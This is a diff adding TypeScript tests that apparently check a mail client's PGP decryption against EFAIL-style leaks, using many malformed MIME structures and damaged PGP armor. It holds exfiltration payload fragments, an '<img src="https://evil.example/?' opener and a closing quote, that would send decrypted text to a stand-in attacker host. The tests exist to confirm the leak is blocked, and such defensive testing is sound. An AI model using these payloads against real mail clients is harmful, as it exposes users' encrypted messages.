@@ -72,6 +72,25 @@ describe('what was decrypted never stands beside HTML that came in clear (CVE-20
   });
 
   const page = (words: string) => ['Content-Type: text/html', '', words];
+  const DAMAGED = '-----BEGIN PGP MESSAGE-----\r\n\r\nabcd\r\n-----END PGP MESSAGE-----';
+  const divided = (boundary: string, used: string, words: string) => [
+    `Content-Type: multipart/mixed; boundary=${boundary}`,
+    '',
+    `--${used}`,
+    ...page(words),
+    `--${used}--`,
+  ];
+  const signedBy = (part: string[], signature: string) => [
+    'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary=s',
+    '',
+    ...['--s', ...part, '--s', 'Content-Type: application/pgp-signature', '', signature, '--s--'],
+  ];
+  const damagedMime = [
+    'Content-Type: multipart/encrypted; boundary=s',
+    '',
+    ...['--s', 'Content-Type: application/pgp-encrypted', '', 'Version: 1'],
+    ...['--s', 'Content-Type: application/octet-stream', '', DAMAGED, '--s--'],
+  ];
   const forms: readonly [string, (words: string) => string[]][] = [
     ['with a comment in its type', (words) => ['Content-Type: text/html (x)', '', words]],
     ['with a word behind its type', (words) => ['Content-Type: text/html x', '', words]],
@@ -90,6 +109,24 @@ describe('what was decrypted never stands beside HTML that came in clear (CVE-20
     ['that says it is a file', (words) => ['Content-Type: text/html', 'Content-Disposition: attachment', '', words]],
     ['as XHTML', (words) => ['Content-Type: application/xhtml+xml', 'Content-Disposition: inline', '', words]],
     ['as an image', (words) => ['Content-Type: image/svg+xml', '', words]],
+    [
+      'in a digest',
+      (words) => ['Content-Type: multipart/digest; boundary=q', '', '--q', '', 'From: a@b.example', ...page(words), '--q--'],
+    ],
+    ['under a boundary with a comment for some', (words) => divided('q(c)', 'q(c)', words)],
+    ['under two boundaries', (words) => divided("q; boundary*=utf-8''r", 'r', words)],
+    ['under a boundary that ends in a blank', (words) => divided('"q "', 'q', words)],
+    ['under a boundary with an escape', (words) => divided('"q\\r"', 'qr', words)],
+    ['under a boundary of two words', (words) => divided('q r', 'q', words)],
+    ['with a signature that is none', (words) => signedBy(page(words), 'x')],
+    ['with damaged armor in it', (words) => page(`<pre>${DAMAGED}</pre>${words}`)],
+    ['in a file with damaged armor', (words) => ['Content-Type: text/html; name="x.asc"', '', `${DAMAGED}\r\n${words}`]],
+    ['beside damaged PGP/MIME', (words) => [...damagedMime.slice(0, -1), '--s', ...page(words), '--s--']],
+    ['by its name', (words) => ['Content-Type: application/octet-stream; name=x.html', '', words]],
+    [
+      'as a mail by its name',
+      (words) => ['Content-Type: application/octet-stream', 'Content-Disposition: inline; filename=x.eml', '', ...page(words)],
+    ],
     ['in two encodings', (words) => ['Content-Transfer-Encoding: 7bit', 'Content-Transfer-Encoding: 8bit', ...page(words)]],
   ];
   it.each(forms)('HTML %s', async (_, form) => {
@@ -100,6 +137,24 @@ describe('what was decrypted never stands beside HTML that came in clear (CVE-20
       expect(contentOf(opened)).not.toMatch(/evil\.example|<img|">/);
       expect(opened.warnings).toContain('unprotected-text');
     }
+  });
+
+  it('HTML that was encrypted by itself does not stand beside another secret, and beside none it stays', async () => {
+    const seal = async (words: string) => [
+      ...pgpMime.slice(0, -2),
+      (await armor(page(words).join('\r\n'))).replaceAll(/\r?\n/g, '\r\n'),
+      '--e--',
+    ];
+    const [first, last] = [await seal('<img src="https://evil.example/?'), await seal('">')];
+    for (const secret of [inline, file, pgpMime]) {
+      const opened = await open(...many('mixed', first, secret, last));
+      expect(contentOf(opened)).not.toMatch(/evil\.example|<img|">/);
+      const { text, files } = viewOf(parseEntity(opened.content));
+      expect([text, ...files.map(({ bytes }) => Buffer.from(bytes).toString())].join('\n')).toContain(SECRET);
+    }
+    expect(contentOf(await open(...many('mixed', first, ['Content-Type: text/plain', '', 'a footer'])))).toContain(
+      'evil.example',
+    );
   });
 
   it.each([
